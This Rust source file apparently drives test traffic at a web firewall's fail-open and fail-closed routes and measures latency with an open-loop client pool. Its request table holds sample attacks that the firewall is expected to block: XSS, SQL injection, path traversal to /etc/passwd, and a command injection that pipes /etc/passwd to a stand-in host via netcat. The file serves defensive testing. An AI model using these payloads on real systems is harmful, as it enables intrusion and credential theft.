//! Requests at a steady rate, clean ones and attacks, on the route that fails open and on the one that fails
//! closed.
//!
//! The rate does not depend on answers (open loop): what an answer took is counted from the moment at which its
//! request was due, so that a pause of the server is seen by all who came in it.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::thread::{Builder, JoinHandle, sleep};
use std::time::{Duration, Instant};

use serde::Deserialize;

use crate::failure::{Outcome, doing};
use crate::http::{Connection, Request};

const STACK_BYTES: usize = 256 << 10;

/// A route of the fleet.
#[derive(Clone, Copy, Debug, Deserialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "kebab-case")]
pub enum Route {
    /// Passes requests uninspected while nobody can inspect them.
    Open,
    /// Refuses them then.
    Closed,
}

/// What a request is.
#[derive(Clone, Copy, Debug, Deserialize, PartialEq, Eq, PartialOrd, Ord)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// To be answered by the upstream.
    Clean,
    /// To be refused.
    Attack,
}

/// A request, and what must become of it when all is well.
#[derive(Clone, Debug)]
pub struct Row {
    /// For reports.
    pub name: &'static str,
    /// What it is.
    pub kind: Kind,
    /// Its status when all is well.
    pub status: u16,
    request: Request,
}

/// What became of one request.
#[derive(Clone, Copy, Debug)]
pub struct Record {
    /// When it was due, since the traffic began.
    pub due: Duration,
    /// When it was sent: later than it was due when its client had to wait for the answer before.
    pub sent: Duration,
    /// When the answer was there.
    pub done: Duration,
    /// Which row it was.
    pub row: usize,
    /// Which route it took.
    pub route: Route,
    /// The status of the answer; 0 if there was none.
    pub status: u16,
}

impl Record {
    /// What a client has waited that did not want to wait for the answer before.
    pub fn took(&self) -> Duration {
        self.done.saturating_sub(self.due)
    }

    /// What this request alone has cost its client.
    pub fn paid(&self) -> Duration {
        self.done.saturating_sub(self.sent)
    }
}

/// Requests of all kinds: pages, forms, JSON, uploads, and attacks in each place; in the order in which they are
/// sent, clean ones twice as often.
pub fn rows() -> Vec<Row> {
    let form = "application/x-www-form-urlencoded";
    let json = "application/json";
    let upload = format!(
        "--b0undary\r\ncontent-disposition: form-data; name=\"file\"; filename=\"report.txt\"\r\n\
         content-type: text/plain\r\n\r\n{}\r\n--b0undary--\r\n",
        "glacis and ice ".repeat(500)
    );
    let get = Request::get;
    let clean = |name, request: Request| (name, Kind::Clean, 200, request);
    let attack = |name, status, request: Request| (name, Kind::Attack, status, request);
    let rows = [
        clean("page", get("/products/42?page=2&q=winter%20coat")),
        attack("XSS in the query", 403, get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        clean("form", Request::post("/cart", form, "name=J%C3%BCrgen&city=K%C3%B6ln")),
        clean("home", get("/")),
        attack(
            "SQL injection in a form",
            403,
            Request::post("/login", form, "user=1'+UNION+SELECT+password+FROM+users--"),
        ),
        clean("JSON", Request::post("/api/orders", json, r#"{"sku": "A-1", "count": 2}"#)),
        clean("upload", Request::post("/files", "multipart/form-data; boundary=b0undary", upload)),
        attack("traversal", 403, get("/download?file=..%2f..%2f..%2fetc%2fpasswd")),
        clean("search", get("/search?q=red+shoes&sort=price")),
        clean("style sheet", get("/style.css?v=3")),
        attack(
            "command in JSON",
            403,
            Request::post("/api/run", json, r#"{"cmd": "; cat /etc/passwd | nc 192.0.2.1 80"}"#),
        ),
        attack("no key", 401, get("/orders/7")),
    ];
    let rows = rows.into_iter();
    rows.map(|(name, kind, status, request)| Row { name, kind, status, request: request.browser() })
        .collect()
}

/// How much traffic.
#[derive(Clone, Copy, Debug)]
pub struct Load {
    /// Requests in a second, of all clients together.
    pub per_second: u32,
    /// Clients, each with an address and a connection of its own.
    pub clients: u16,
}

/// Running traffic.
#[derive(Debug)]
pub struct Traffic {
    begun: Instant,
    over: Arc<AtomicBool>,
    records: Arc<Mutex<Vec<Record>>>,
    clients: Vec<JoinHandle<()>>,
}

impl Traffic {
    /// Begins.
    ///
    /// # Errors
    ///
    /// If there are no threads to be had.
    pub fn start(to: SocketAddr, load: Load) -> Outcome<Self> {
        let begun = Instant::now();
        let over = Arc::new(AtomicBool::new(false));
        let records = Arc::new(Mutex::new(Vec::new()));
        let mut clients = Vec::new();
        for number in 0..load.clients.max(1) {
            let client =
                Client::new(to, number, load, begun, Arc::clone(&over), Arc::clone(&records));
            let thread = Builder::new().stack_size(STACK_BYTES);
            clients.push(thread.spawn(move || client.run()).map_err(doing("start a client"))?);
        }
        Ok(Self { begun, over, records, clients })
    }

    /// The time since it began, which records count from.
    pub fn now(&self) -> Duration {
        self.begun.elapsed()
    }

    /// Takes what has been recorded so far.
    pub fn take(&self) -> Vec<Record> {
        std::mem::take(&mut *self.records.lock().unwrap_or_else(PoisonError::into_inner))
    }

    /// A copy of what was recorded of requests that were due from this moment on.
    pub fn since(&self, moment: Duration) -> Vec<Record> {
        let records = self.records.lock().unwrap_or_else(PoisonError::into_inner);
        records.iter().filter(|record| record.due >= moment).copied().collect()
    }

    /// Ends when every client has its answer, and returns what was recorded and not taken.
    pub fn finish(&mut self) -> Vec<Record> {
        self.over.store(true, Ordering::Relaxed);
        for client in self.clients.drain(..) {
            let _ = client.join();
        }
        self.take()
    }
}

impl Drop for Traffic {
    fn drop(&mut self) {
        self.over.store(true, Ordering::Relaxed);
    }
}

struct Client {
    to: SocketAddr,
    from: Ipv4Addr,
    number: usize,
    clients: usize,
    /// Between two requests of this client.
    period: Duration,
    begun: Instant,
    over: Arc<AtomicBool>,
    records: Arc<Mutex<Vec<Record>>>,
    /// What is sent, by row and route.
    bytes: Vec<[Vec<u8>; 2]>,
    connection: Option<Connection>,
}

impl Client {
    fn new(
        to: SocketAddr,
        number: u16,
        load: Load,
        begun: Instant,
        over: Arc<AtomicBool>,
        records: Arc<Mutex<Vec<Record>>>,
    ) -> Self {
        let [high, low] = number.to_be_bytes();
        let from = Ipv4Addr::new(127, 3, high, low.saturating_add(1));
        let clients = usize::from(load.clients.max(1));
        let period = Duration::from_secs_f64(clients as f64 / f64::from(load.per_second.max(1)));
        let bytes = rows().into_iter().map(|row| {
            let closed = row.request.bytes();
            let mut open = row.request;
            open.target = format!("/open{}", open.target);
            [open.bytes(), closed]
        });
        let (number, bytes) = (usize::from(number), bytes.collect());
        Self { to, from, number, clients, period, begun, over, records, bytes, connection: None }
    }

    fn run(mut self) {
        let share = self.number as f64 / self.clients as f64;
        let mut due = self.period.mul_f64(share);
        for count in 0_usize.. {
            sleep(due.saturating_sub(self.begun.elapsed()));
            if self.over.load(Ordering::Relaxed) {
                return;
            }
            // The same row goes to one route and then to the other, and clients begin with another one each.
            let row = (self.number * 5 + count / 2) % self.bytes.len().max(1);
            let route = if count % 2 == 0 { Route::Closed } else { Route::Open };
            let sent = self.begun.elapsed();
            let status = self.exchange(row, route);
            let done = self.begun.elapsed();
            let record = Record { due, sent, done, row, route, status };
            self.records.lock().unwrap_or_else(PoisonError::into_inner).push(record);
            due += self.period;
        }
    }

    /// Sends a request and returns the status of the answer; 0 if there is none.
    fn exchange(&mut self, row: usize, route: Route) -> u16 {
        let kept = self.connection.is_some();
        let Some(bytes) =
            self.bytes.get(row).map(|bytes| &bytes[usize::from(route == Route::Closed)])
        else {
            return 0;
        };
        match attempt(&mut self.connection, self.from, self.to, bytes) {
            Some(status) => status,
            // The server may have ended a kept connection before it saw the request. Clients ask again then,
            // if asking twice does no harm (RFC 9110, section 9.2.2).
            None if kept && bytes.starts_with(b"GET") => {
                attempt(&mut self.connection, self.from, self.to, bytes).unwrap_or(0)
            }
            None => 0,
        }
    }
}

/// One try, over the connection that there is or a new one, which is kept if it may be.
fn attempt(
    kept: &mut Option<Connection>,
    from: Ipv4Addr,
    to: SocketAddr,
    bytes: &[u8],
) -> Option<u16> {
    let mut connection = match kept.take() {
        Some(connection) => connection,
        None => Connection::open(Some(from), to).ok()?,
    };
    // No request here is a HEAD, the only one whose answer is read otherwise.
    let answer = connection.exchange(bytes, "").ok()?;
    if answer.header("connection") != Some("close") {
        *kept = Some(connection);
    }
    Some(answer.status)
}
